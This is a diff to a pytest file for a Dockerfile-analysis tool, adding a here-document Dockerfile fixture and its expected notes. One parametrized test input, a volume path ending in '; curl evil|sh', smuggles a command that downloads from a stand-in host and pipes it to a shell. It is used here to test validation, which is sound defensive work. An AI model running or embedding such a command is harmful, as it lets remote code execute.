@@ -81,6 +81,45 @@ def test_spellings(lay: Lay, name: str, text: str, notes: tuple[str, ...]) -> No
     assert all(note in it for note, it in zip(notes, said, strict=True))
 
 
+HERE = """\
+# escape=^
+ARG NODE=node:20
+FROM $NODE AS Front
+FROM python:3.13
+RUN <<EOF
+# apt-get install libx1
+apt-get update && apt-get install -y \\
+  libcairo2 && true
+apt-get install -y ffmpeg
+VOLUME /no
+EOF
+RUN apt-get install ^
+  # why
+  libpq5
+COPY --from=front /work/dist ./dist
+COPY <<-'START' <<OTHER /srv/
+\tCMD ["/no.sh"]
+\tSTART
+VOLUME /no
+OTHER
+ENTRYPOINT ["/docker-entrypoint.sh"]
+"""
+
+
+def test_here_documents(lay: Lay) -> None:
+    """What a here-document installs is told, and nothing in it is an instruction, whatever sign joins lines."""
+    root = lay({"requirements.txt": "", "Dockerfile": HERE})
+    needs = "pass --apt for each of Debian's packages that the app needs"
+
+    assert detect(ScaffoldRequest(), root).notes == (
+        "Dockerfile:3 builds `./dist` with Node, and the image here takes what is there: "
+        "build it before, and let .dockerignore have it in",
+        f"Dockerfile:5 installs libcairo2 ffmpeg: {needs}",
+        f"Dockerfile:12 installs libpq5: {needs}",
+        "Dockerfile:21 starts `/docker-entrypoint.sh`: what that does before or beside the server is not done here",
+    )
+
+
 @pytest.mark.parametrize("path", ["/tmp", "/etc/app", "/run", "/root/x", "/app", "/data; curl evil|sh"])
 def test_volumes_that_cannot_be(lay: Lay, path: str) -> None:
     """A volume that `--volume` would refuse is told without that option, which leads nowhere."""
